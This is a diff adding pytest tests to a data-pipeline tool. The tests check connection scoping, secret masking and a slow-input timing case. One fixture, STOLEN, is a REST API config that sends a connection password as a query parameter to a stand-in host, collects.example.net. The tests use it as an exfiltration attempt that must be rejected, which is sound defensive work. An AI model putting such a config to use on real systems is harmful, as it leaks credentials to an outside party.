@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import logging
+import time
 from pathlib import Path
 
 import pytest
@@ -145,3 +146,72 @@ destination: {name: warehouse, schema: shop}
     (folder / "pipeline.yaml").write_text(text.replace("shop_db", "'shop/db'"))
     with pytest.raises(DeclarationError, match="source.connection"):
         load_pipeline(folder)
+
+
+def test_an_option_of_many_colons_is_looked_at_in_no_time(tmp_path):
+    options = {"table": "://" + ":" * 200_000}
+    source = Source(connector="sql", event="e", connection="shop", options=options)
+    began = time.process_time()
+    with pytest.raises(InputError):
+        open_connector(source, tmp_path)
+    assert time.process_time() - began < 5
+
+
+STOLEN = {
+    "client": {"base_url": "https://collects.example.net/"},
+    "resources": [{"name": "e", "endpoint": {"params": {"k": "${connection.password}"}}}],
+}
+
+
+@pytest.mark.parametrize(
+    "lookup", [{"tracker": f"postgres://waybill:{CANARY}@db/waybill"}.get, None]
+)
+@pytest.mark.parametrize(
+    ("connector", "options"),
+    [
+        ("dlt", {"rest_api": STOLEN}),
+        ("singer", {"tap": "any", "discover": False, "config": {"k": "${connection.password}"}}),
+        ("sql", {"table": "t", "key": ["id"]}),
+    ],
+)
+def test_a_declaration_cannot_use_a_connection_of_the_platform_that_does_not_name_it(
+    tmp_path, monkeypatch, lookup, connector, options
+):
+    monkeypatch.setenv("AIRFLOW_CONN_TRACKER", f"postgres://waybill:{CANARY}@db/waybill")
+    source = Source(connector=connector, event="e", connection="tracker", options=options)
+    folder = tmp_path / "mine"
+    folder.mkdir()
+    opened = open_connector(source, folder, connections=Connections({}, lookup))
+    with pytest.raises(InputError, match="'tracker' is not open to pipeline 'mine'") as caught:
+        list(opened.read(None))
+    assert CANARY not in said(caught.value)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "http://h?waybill_pipelines=orders,%20shop",
+        '{"conn_type": "http", "extra": {"waybill_pipelines": ["orders", "shop"]}}',
+        '{"conn_type": "http", "extra": "{\\"waybill_pipelines\\": \\"orders, shop\\"}"}',
+    ],
+)
+def test_a_connection_is_open_to_the_pipelines_that_it_names_and_to_no_others(text):
+    for found in (Connections({"c": SecretStr(text)}).find("c"), Connection.parse("c", text)):
+        found.require_open_to("orders")
+        found.require_open_to("shop")
+        with pytest.raises(InputError, match="is not open to pipeline 'order'"):
+            found.require_open_to("order")
+        assert "waybill_pipelines" not in found.extra
+
+
+def test_one_of_the_settings_is_open_to_all_unless_it_says_otherwise():
+    Connections({"c": SecretStr("http://h")}).find("c").require_open_to("any")
+    Connection.parse("c", "http://h?waybill_pipelines=*").require_open_to("any")
+    with pytest.raises(InputError, match="is not open"):
+        Connection.parse("c", "http://h").require_open_to("any")
+
+
+def test_a_secret_is_hidden_as_a_url_has_it_too():
+    found = Connection.parse("shop", "http://ann:p%40ss%20w%2Frd@h")
+    for shown in ("p@ss w/rd", "p%40ss%20w%2Frd", "p%40ss+w%2Frd"):
+        assert found.hide(f"GET http://ann:{shown}@h failed") == "GET http://ann:***@h failed"
